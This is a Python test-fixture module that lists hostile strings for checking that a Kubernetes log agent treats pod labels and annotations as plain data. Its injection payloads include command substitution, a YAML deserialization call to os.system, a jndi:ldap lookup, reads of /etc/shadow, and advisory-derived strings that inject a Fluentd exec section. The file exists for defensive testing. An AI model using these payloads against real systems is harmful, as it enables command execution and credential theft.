"""What pod authors can write into names, labels, annotations and image references, at their worst.

    @pytest.mark.parametrize("text", hostile.TEXTS, ids=hostile.shown)
    def test_a_label_stays_data(text: str) -> None:
        target = make_target(labels={"application": text})
        ...

An API server lets few of these pass as a label, and all of them as an annotation. Agents need not rely on it:
a label can come from a state file or a server that checks less.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from typing import Final

QUOTES: Final = (
    '"',
    "'",
    "''",
    '"}',
    "'; DROP TABLE logs; --",
    '\\"',
    "\\",
    "\\\\",
    '"""',
    "\\x41\\",
    "a'b\"c`d",
)

NEWLINES: Final = (
    "\n",
    "\r\n",
    "\r",
    "a\nb: c",
    "a\n---\nb",
    "x\nenabled: false",
    'x"\nenabled: false\n#',
    "\u2028",
    "\u2029",
    "\x85",
    "\v\f",
)

CONTROLS: Final = (
    "\0",
    "a\0b",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\b\b\b",
    "\x7f",
    "\x01\x1f",
    "\t",
    " ",
)

PATHS: Final = (
    ".",
    "..",
    "../..",
    "../" * 20 + "etc/passwd",
    "/",
    "//",
    "/etc/passwd",
    "/etc/cron.d/x",
    "a/../../b",
    "a/b",
    "./a",
    "~root",
    "C:\\x",
    "\\\\host\\share",
    ".hidden",
    "-rf",
    "--config=/etc/shadow",
    "." * 300,
    "x" * 300,
)

EXPANSIONS: Final = (
    "$HOME",
    "${HOME}",
    "${WATCHER_SCALYR_API_KEY}",
    "$${HOME}",
    "$(id)",
    "$(touch /tmp/pwned)",
    "`id`",
    "#{ENV['HOME']}",
    '#{File.read("/etc/shadow")}',
    "%{[@metadata][secret]}",
    "%{GREEDYDATA:message}",
    "%s%n%d",
    "%(secret)s",
    "{0.__class__.__mro__}",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "<%= 7 * 7 %>",
    "${jndi:ldap://example.org/a}",
    "@include /etc/shadow",
    "!include /etc/shadow",
)

GLOBS: Final = ("*", "**", "?", "[a-z]*", "[!a]", "{a,b}", "*.log", "/var/log/**/*", "[", "]")

YAML: Final = (
    "a: b",
    "- a",
    "# no comment",
    "a #b",
    "&a *a",
    "*a",
    "<<: *a",
    "!!python/object/apply:os.system [id]",
    "!!binary aGk=",
    "!tag",
    "| ",
    ">-",
    "? key",
    "%YAML 1.1",
    "---",
    "...",
    "{a: b}",
    "[a, b]",
    "@at",
    "`tick",
)

MISTYPED: Final = (
    "",
    "yes",
    "No",
    "on",
    "y",
    "true",
    "False",
    "null",
    "~",
    "1",
    "1.10",
    "0123",
    "0x1F",
    "0o17",
    "1_000",
    "1e3",
    ".5",
    ".inf",
    "-.INF",
    ".NaN",
    "NaN",
    "12:30:45",
    "190:20:30",
    "2020-01-01",
    "2001-12-14t21:59:43.10-05:00",
    "=",
    "<<",
)
"""Without quotes, YAML takes these for something else than text. Most of them are legal label values."""

JSON: Final = (
    "{",
    "}",
    "[]",
    '{"a": 1}',
    '"}], "logs": [{"path": "/etc/shadow"}], "x": [{"y": "',
    '", "api_key": "stolen", "x": "',
    "</script><script>",
    "/* comment */",
    "\\u0000",
    "\\ud83d",
    "Infinity",
)

LOOK_ALIKES: Final = (
    "\u202egol.exe",  # turns the direction of what follows
    "\u2066shop\u2069",
    "\u200bshop",
    "shop\u200d",
    "\ufeffshop",
    "sh\u043ep",  # a Cyrillic letter that looks like an o
    "\uff0e\uff0e\uff0f",  # full-width ../
    "\u2024\u2024\u2215",  # a leader and a division sign that look like ../
    "shop\u0301",
    "\u00df\u0130\u0131",  # letters whose upper and lower cases differ in length
    "\U0001f600",
    "\U000e0041",
    "\ufffd\ufffe\uffff",
)

ADVISORIES: Final = (
    # GHSA-mjqf-28ph-426h: a newline in a string ended it, and opened a section that runs a command.
    'x"\n</match>\n<match **>\n  @type exec\n  command touch /tmp/pwned\n</match>\n#',
    "x\n<source>\n  @type exec\n  command id\n  tag x\n</source>",
    # beats#52624: a pod's hint was taken for a whole input, of any kind and path.
    '[{"type": "filestream", "paths": ["/etc/shadow"], "id": "x"}]',
    '{"type": "log", "paths": ["/var/log/containers/*.log"], "processors": [{"script": {"lang": "js"}}]}',
    "/host/etc/shadow",
)

LARGE: Final = ("x" * 262_144, "\n" * 65_536, "\U0001f600" * 16_384, '"' * 65_536, "../" * 20_000)
"""Annotations may have 256 KiB, all of a pod together."""

_DEPTH: Final = 20_000

NESTED: Final = (
    "[" * _DEPTH + "]" * _DEPTH,
    '{"a":' * _DEPTH + "1" + "}" * _DEPTH,
    "[" * 100_000,
    "{a: " * 500,
    "- " * 500,
)
"""Deep enough for any parser that calls itself to run out of its stack."""

GROUPS: Final[Mapping[str, tuple[str, ...]]] = {
    "quotes": QUOTES,
    "newlines": NEWLINES,
    "controls": CONTROLS,
    "paths": PATHS,
    "expansions": EXPANSIONS,
    "globs": GLOBS,
    "yaml": YAML,
    "mistyped": MISTYPED,
    "json": JSON,
    "look-alikes": LOOK_ALIKES,
    "advisories": ADVISORIES,
    "large": LARGE,
    "nested": NESTED,
}
"""All texts, by what they are up to."""

SHORT: Final = tuple(
    text for name, texts in GROUPS.items() if name not in {"large", "nested"} for text in texts
)
"""Those that can be put together to longer ones."""

TEXTS: Final = (*SHORT, *LARGE, *NESTED)
"""Everything."""


_ODD: Final = (
    "null",
    "true",
    "1",
    "-0.5",
    "NaN",
    "[]",
    "{}",
    "[[]]",
    "[null]",
    '[{"container": null}]',
    "[{}, 1]",
)


def shown(text: str) -> str:
    """Name a text in a test's id: in ASCII, and short."""
    return ascii(text)[1:-1][:30]


def annotation_values(container: str = "main") -> Iterator[str]:
    """Yield values for annotations that are read as JSON: every text, bare and in the places of a document.

    They have the form of a list of objects, each for the container that it names.
    """
    yield from TEXTS
    for text in SHORT:
        yield json.dumps(text)
        yield json.dumps([{"container": container, text: text}])
        yield json.dumps([{"container": text}])
    yield from _ODD
